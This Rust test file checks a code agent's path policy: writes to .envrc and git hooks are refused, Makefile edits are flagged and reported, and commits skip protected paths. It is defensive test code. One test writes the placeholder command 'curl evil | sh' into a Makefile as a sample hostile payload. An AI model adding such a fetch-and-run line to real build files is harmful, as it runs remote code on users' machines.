//! Paths a policy guards: refused before anything happens, or allowed and reported.

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test may panic")]

mod common;

use std::fs;
use std::sync::Arc;

use codeagent_common::{ErrorCode, PathUse, PathVerdict, RelPath};
use codeagent_interceptor::{Mutation, PathPolicy, StagedChange, WriteInterceptor};
use codeagent_test_support::{Applier, TempWorkspace, assert_tree_eq, fixtures};
use common::{Bench, assert_errno, assert_helpful, rel, rel_buf, rel_bufs};
use rustix::io::Errno;

/// Denies `.envrc` and `.git/hooks/*` at any depth, flags every `Makefile`.
struct Rules;

impl PathPolicy for Rules {
    fn judge(&self, path: RelPath<'_>, _usage: PathUse) -> PathVerdict {
        let names: Vec<&[u8]> = path.components().collect();
        let hook = names.windows(3).any(|names| names[..2] == [&b".git"[..], b"hooks"]);
        match names.last() {
            _ if hook => PathVerdict::Deny("git hooks run unasked".into()),
            Some(&b".envrc") => PathVerdict::Deny("direnv runs it unasked".into()),
            Some(&b"Makefile") => PathVerdict::Flag,
            _ => PathVerdict::Allow,
        }
    }

    fn guards_below(&self, _path: RelPath<'_>, _usage: PathUse) -> bool {
        true
    }
}

fn guarded() -> Bench {
    let workspace = TempWorkspace::with_fixture(|root| {
        fixtures::rename_tree(root);
        fs::write(root.join(".envrc"), b"export SAFE=1\n").unwrap();
        fs::write(root.join("Makefile"), b"all:\n").unwrap();
        fs::create_dir_all(root.join("template/hooks")).unwrap();
        fs::write(root.join("template/hooks/pre-commit"), b"#!/bin/sh\n").unwrap();
        fs::create_dir_all(root.join("project/.git")).unwrap();
        fixtures::set_distinct_mtimes(root);
    });
    Bench::configured(workspace, |config| config.paths = Arc::new(Rules))
}

/// Each of `refused` fails with EPERM and changes nothing.
#[track_caller]
fn assert_denied(refused: &[fn(&Applier<'_>) -> std::io::Result<()>]) {
    let bench = guarded();
    let before = bench.snapshot();
    bench.try_step(|fs| {
        for operation in refused {
            assert_errno(operation(fs), Errno::PERM);
        }
    });
    assert_tree_eq(&before, &bench.snapshot());
}

#[test]
fn a_denied_path_cannot_appear() {
    assert_denied(&[
        |fs| fs.create("full/.envrc", b"evil"),
        |fs| fs.mkdir("full/.envrc"),
        |fs| fs.symlink("a.txt", "full/.envrc"),
        |fs| fs.mkfifo("full/.envrc"),
        |fs| fs.link("a.txt", "full/.envrc"),
        |fs| fs.link_tmpfile("full/.envrc", b"evil"),
        |fs| fs.rename("a.txt", "full/.envrc"),
        |fs| fs.rename_noreplace("a.txt", "full/.envrc"),
    ]);
}

#[test]
fn a_denied_path_cannot_change_or_go() {
    assert_denied(&[
        |fs| fs.write(".envrc", 0, b"evil"),
        |fs| fs.append(".envrc", b"evil"),
        |fs| fs.truncate(".envrc", 0),
        |fs| fs.overwrite(".envrc", b"evil"),
        |fs| fs.write_unseen(".envrc", b"evil"),
        |fs| fs.chmod(".envrc", 0o777),
        |fs| fs.unlink(".envrc"),
        |fs| fs.rename(".envrc", "moved"),
        |fs| fs.rename("a.txt", ".envrc"),
    ]);
}

#[test]
fn a_denied_path_cannot_be_exchanged() {
    assert_denied(&[
        |fs| fs.exchange("a.txt", ".envrc"),
        |fs| fs.exchange(".envrc", "a.txt"),
        |fs| fs.exchange("template", "project/.git"),
    ]);
}

/// A further name is not guarded, and what is written by it is written to the denied file.
#[test]
fn a_denied_file_cannot_be_changed_by_way_of_a_new_hard_link() {
    let bench = guarded();
    bench.try_step(|fs| {
        let _ = fs.link(".envrc", "alias");
        let _ = fs.overwrite("alias", b"evil");
    });
    assert_eq!(fs::read(bench.path(".envrc")).unwrap(), b"export SAFE=1\n");
}

#[test]
fn a_directory_cannot_get_a_name_that_makes_what_is_below_it_denied() {
    assert_denied(&[
        |fs| fs.rename("template", ".git"),
        |fs| fs.rename("template", "full/.git"),
        |fs| fs.rename("template/hooks", "project/.git/hooks"),
    ]);
}

#[test]
fn a_directory_with_nothing_denied_below_it_may_be_renamed() {
    let bench = guarded();
    let before = bench.snapshot();
    bench.step(|fs| {
        fs.rename("template", "elsewhere").unwrap();
        fs.rename("full", ".git").unwrap();
    });
    bench.undo(1);
    assert_tree_eq(&before, &bench.snapshot());
}

#[test]
fn a_denial_names_the_path_the_rule_and_a_way_out() {
    let bench = guarded();
    let mkdir = Mutation::Mkdir { path: rel("project/.git/hooks/post-merge") };
    let error = bench.engine.before(&mkdir).unwrap_err();
    assert_helpful(&error, ErrorCode::PathProtected);
    let sentence = error.to_string();
    assert!(sentence.contains("project/.git/hooks/post-merge"), "{sentence}");
    assert!(sentence.contains("git hooks run unasked"), "{sentence}");
}

#[test]
fn a_denied_operation_does_not_stop_the_step() {
    let bench = guarded();
    let before = bench.snapshot();
    bench.step(|fs| {
        fs.append("a.txt", b"before").unwrap();
        assert_errno(fs.unlink(".envrc"), Errno::PERM);
        fs.append("b.txt", b"after").unwrap();
    });
    bench.undo(1);
    assert_tree_eq(&before, &bench.snapshot());
}

#[test]
fn flagged_paths_are_allowed_and_reported_with_the_step() {
    let bench = guarded();
    let step = bench.step(|fs| {
        fs.append("Makefile", b"\tcurl evil | sh\n").unwrap();
        fs.append("Makefile", b"\tagain\n").unwrap();
        fs.create("full/Makefile", b"all:\n").unwrap();
        fs.append("a.txt", b"not worth a look").unwrap();
    });
    assert_eq!(step.flagged, rel_bufs(&["Makefile", "full/Makefile"]));
    let bench = bench.reopened();
    assert_eq!(bench.engine.steps()[0].flagged, step.flagged);
    bench.undo(1);
    bench.redo(1);
    assert_eq!(bench.engine.steps()[0].flagged, step.flagged);
}

#[test]
fn a_commit_leaves_denied_paths_out_and_reports_them() {
    let bench = guarded();
    let before = bench.snapshot();
    let staging = bench.beside("staging");
    for (name, content) in [("new.txt", "new"), ("envrc", "evil"), ("makefile", "all: evil")] {
        fs::write(staging.join(name), content).unwrap();
    }
    fs::create_dir_all(staging.join("repository/hooks")).unwrap();
    fs::write(staging.join("repository/hooks/pre-push"), b"evil").unwrap();
    let place = |path: &str, staged: &str| StagedChange::Place {
        path: rel_buf(path),
        staged: rel_buf(staged),
    };
    let changes = [
        place("new.txt", "new.txt"),
        place(".envrc", "envrc"),
        place("full/.git", "repository"),
        place("Makefile", "makefile"),
        StagedChange::Remove { path: rel_buf("b.txt") },
    ];
    let mut report = None;
    let step = bench.step(|fs| report = Some(fs.engine().adopt(&staging, &changes).unwrap()));

    let report = report.unwrap();
    let left_out: Vec<_> = report.protected.iter().map(|(path, _)| path.clone()).collect();
    assert_eq!(left_out, rel_bufs(&[".envrc", "full/.git"]));
    assert!(report.protected.iter().all(|(_, rule)| rule.contains("unasked")), "{report:?}");
    assert_eq!((report.placed, report.removed), (2, 1));
    assert_eq!(step.flagged, rel_bufs(&["Makefile"]));
    assert_eq!(fs::read(bench.path(".envrc")).unwrap(), b"export SAFE=1\n");
    assert!(!bench.path("full/.git").exists());
    assert_eq!(fs::read(bench.path("new.txt")).unwrap(), b"new");
    assert!(!bench.path("b.txt").exists());
    bench.undo(1);
    assert_tree_eq(&before, &bench.snapshot());
}

/// Removing the directory `removed` by a commit leaves the hook in it.
#[track_caller]
fn assert_hook_stays(removed: &str) {
    let workspace = TempWorkspace::with_fixture(|root| {
        fs::create_dir_all(root.join("project/.git/hooks")).unwrap();
        fs::write(root.join("project/.git/hooks/pre-commit"), b"the user's").unwrap();
    });
    let bench = Bench::configured(workspace, |config| config.paths = Arc::new(Rules));
    let staging = bench.beside("staging");
    let changes = [StagedChange::Remove { path: rel_buf(removed) }];
    bench.try_step(|fs| {
        let report = fs.engine().adopt(&staging, &changes).unwrap();
        assert_eq!(report.protected.len(), 1, "{report:?}");
    });
    let hook = bench.path("project/.git/hooks/pre-commit");
    assert_eq!(fs::read(hook).unwrap(), b"the user's");
}

#[test]
fn a_commit_does_not_remove_a_denied_path() {
    assert_hook_stays("project/.git/hooks/pre-commit");
}

#[test]
fn a_commit_does_not_remove_a_directory_with_a_denied_path_in_it() {
    assert_hook_stays("project/.git");
}
